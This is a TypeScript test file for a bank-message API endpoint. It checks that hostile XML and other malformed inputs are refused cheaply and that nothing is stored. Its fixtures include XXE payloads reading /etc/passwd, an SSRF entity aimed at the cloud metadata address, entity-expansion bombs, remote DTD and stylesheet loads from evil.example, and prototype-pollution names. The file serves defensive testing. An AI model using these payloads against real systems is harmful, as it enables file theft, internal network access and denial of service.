import type { UserId } from "@grants/kernel/id";
import type { Database } from "@grants/store/database";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type TestApi, createTestApi } from "../support/api.ts";
import { countCalls } from "../support/count-calls.ts";
import { type OpenDatabase, openDatabase } from "../support/dynamodb.ts";
import { createRefused } from "../support/refusal.ts";

let database: OpenDatabase;
let db: Database;
let api: TestApi;
let accountant: UserId;
let refused: ReturnType<typeof createRefused>;

beforeAll(async () => {
  database = await openDatabase();
  db = database.db;
  api = createTestApi(db, "2027-05-03T09:00:00.000Z");
  accountant = await api.person("accountant of the bank's files", [{ role: "accountingOfficer" }]);
  refused = createRefused(api, db);
});
afterAll(() => database.stop());

const namespace = "urn:iso:std:iso:20022:tech:xsd:pain.002.001.10";
const document = (content: string, prolog = ""): string =>
  `${prolog}<Document xmlns="${namespace}">${content}</Document>`;
const nested = (depth: number): string => "<A>".repeat(depth) + "</A>".repeat(depth);

/** Work grows with the length of what was sent, never with what it could unfold to. */
const callsPerCharacterMax = 20;
/** What any request takes, and what else this process does meanwhile. */
const callsOfRequestMax = 100_000;

const hostile: readonly (readonly [what: string, text: string])[] = [
  ["an entity of a file", document("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  [
    "an entity of another machine",
    document("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'),
  ],
  [
    "entities of entities",
    document("&c;", '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'),
  ],
  ["a document type in small letters", document("", "<!doctype d>")],
  ["a schema's parameter entity", document("", '<!DOCTYPE d [<!ENTITY % p SYSTEM "https://evil.example/d.dtd"> %p;]>')],
  ["elements in elements, as deep as the body is long", document(nested(50_000))],
  ["another root", `<html xmlns="${namespace}"></html>`],
  ["no namespace", "<Document><CstmrPmtStsRpt/></Document>"],
  ["a namespace that is not read here", document("<CstmrPmtStsRpt/>").replace("pain.002.001.10", "pain.002.001.99")],
  [
    "names that every object has",
    document("<__proto__><polluted>yes</polluted></__proto__><constructor><prototype/></constructor>"),
  ],
  ["attributes that every object has", document('<CstmrPmtStsRpt __proto__="x" constructor="y" hasOwnProperty="z"/>')],
  ["JSON under another name", '{"Document":{"CstmrPmtStsRpt":{}}}'],
  ["a picture", "\u0089PNG\r\n\u001a\n"],
  ["an archive", "PK\u0003\u0004"],
  ["nothing but space", " \n\t "],
  ["a page", "<!-- --><script>alert(1)</script>"],
  ["instructions of a style sheet", document("", '<?xml-stylesheet href="https://evil.example/x.xsl"?>')],
  ["an inclusion", document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')],
  ["a million repetitions of one name", document("<A/>".repeat(80_000))],
];

describe("API10: a message that says to be the bank's", () => {
  test.each(hostile)("and is %s is refused as a whole, with little work, and nothing is kept", async (_, text) => {
    const { result: reply, calls } = await countCalls(() =>
      refused("POST", "/v1/treasury/bank-messages", { as: accountant, body: { text } }),
    );
    expect(reply.status).toBe(422);
    expect(reply.body).toMatchObject({ code: "BankMessageRefused" });
    expect(calls).toBeLessThan(callsOfRequestMax + callsPerCharacterMax * text.length);
    expect(reply.text).not.toMatch(/root:|alert\(1\)|polluted":"yes/);
  });

  test("leaves the objects of the platform as they are", () => {
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(Reflect.has({}, "polluted")).toBe(false);
  });

  test("is told by its content: the type that it is sent with opens nothing", async () => {
    const text = document("&x;", '<!DOCTYPE d [<!ENTITY x "y">]>');
    const reply = await refused("POST", "/v1/treasury/bank-messages", {
      as: accountant,
      rawBody: text,
      contentType: "application/xml",
    });
    expect(reply).toMatchObject({ status: 415, body: { code: "ContentTypeNotSupported" } });
  });
});
